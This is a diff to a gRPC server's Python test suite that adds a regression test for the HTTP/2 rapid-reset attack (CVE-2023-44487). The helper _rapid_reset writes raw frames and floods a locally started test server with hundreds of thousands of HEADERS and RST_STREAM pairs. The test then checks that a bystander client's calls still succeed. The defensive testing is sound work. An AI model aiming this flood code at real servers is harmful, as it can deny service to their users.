@@ -13,6 +13,8 @@ import os
 import queue
 import re
 import signal
+import socket
+import struct
 import subprocess
 import threading
 import time
@@ -538,3 +540,103 @@ def test_streams_still_open_when_the_grace_period_runs_out_are_told_how_far_they
     assert evaluated is not None and evaluated.code() == grpc.StatusCode.UNAVAILABLE
     assert "no report; run it again on another server" in evaluated.details()
     assert 0.9 < took < 2.5, took
+
+
+# --- HTTP/2 rapid reset ------------------------------------------------------------------------
+
+
+def _h2_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def _h2_literal(name: str, value: str) -> bytes:
+    """An HPACK literal header field without indexing, a new name, no Huffman coding."""
+    n, v = name.encode(), value.encode()
+    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
+
+
+def _rapid_reset(address: str, pairs: int) -> dict:
+    """Open `pairs` streams on one raw HTTP/2 connection, each HEADERS (no token, no message)
+    followed at once by RST_STREAM(CANCEL): CVE-2023-44487's pattern. What the server sent back."""
+    host, port = address.rsplit(":", 1)
+    block = b"".join(
+        _h2_literal(k, v)
+        for k, v in (
+            (":method", "POST"),
+            (":scheme", "http"),
+            (":path", "/tickserve.v1.SignalService/Predict"),
+            (":authority", address),
+            ("content-type", "application/grpc"),
+            ("te", "trailers"),
+        )
+    )
+    sock = socket.create_connection((host, int(port)))
+    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _h2_frame(0x4, 0, 0))  # preface + SETTINGS
+    sock.setblocking(False)
+    received, sent, stream = bytearray(), 0, 1
+    try:
+        while sent < pairs:
+            burst = bytearray()
+            for _ in range(200):
+                burst += _h2_frame(0x1, 0x4, stream, block) + _h2_frame(0x3, 0, stream, struct.pack(">I", 8))
+                stream, sent = stream + 2, sent + 1
+            view = memoryview(burst)
+            while view:
+                try:
+                    view = view[sock.send(view) :]
+                except BlockingIOError:
+                    time.sleep(0.001)
+                try:
+                    while chunk := sock.recv(65536):
+                        received += chunk
+                except BlockingIOError:
+                    pass
+    except (BrokenPipeError, ConnectionResetError):
+        pass  # the server closed the connection: a valid defence
+    finally:
+        sock.close()
+    kinds: dict[int, int] = {}
+    i = 0
+    while i + 9 <= len(received):
+        kinds[received[i + 3]] = kinds.get(received[i + 3], 0) + 1
+        i += 9 + int.from_bytes(received[i : i + 3], "big")
+    return {"sent": sent, "resets_back": kinds.get(0x3, 0)}
+
+
+def test_a_rapid_reset_flood_on_one_connection_fails_no_other_clients_call(models, plugins):
+    """Issue 14: HEADERS + RST_STREAM pairs flooded on one raw connection (no token, tokens on) made
+    other clients' calls end CANCELLED. With the server's options (grpc.max_concurrent_streams per
+    connection) and grpcio's own reset-flood handling, a bystander's Predict calls, made
+    throughout the flood, all succeed."""
+    from tickserve.serving.security import TokenAuth
+
+    token = "a-long-enough-token-for-the-rapid-reset-test"
+    served = start_server(models, plugins, auth=TokenAuth([token]))
+    try:
+        stub = stub_of(served)
+        request = pb.PredictRequest(model=MODEL, ticks=[tick(i=0)])
+        metadata = (("authorization", f"Bearer {token}"),)
+        stub.Predict(request, metadata=metadata, timeout=10)
+        outcome = {"ok": 0, "failed": []}
+        done = threading.Event()
+
+        def bystander() -> None:
+            while not done.is_set():
+                try:
+                    stub.Predict(request, metadata=metadata, timeout=10)
+                    outcome["ok"] += 1
+                except grpc.RpcError as exc:
+                    outcome["failed"].append(exc.code().name)
+
+        caller = threading.Thread(target=bystander)
+        caller.start()
+        try:
+            flood = _rapid_reset(served.address, 300_000)
+            time.sleep(0.3)
+        finally:
+            done.set()
+            caller.join(15)
+    finally:
+        stop_server(served)
+    assert flood["sent"] >= 50_000 and flood["resets_back"] >= 10_000, flood  # the server did see the flood
+    assert outcome["ok"] >= 20 and outcome["failed"] == [], (outcome["ok"], outcome["failed"][:5], flood)
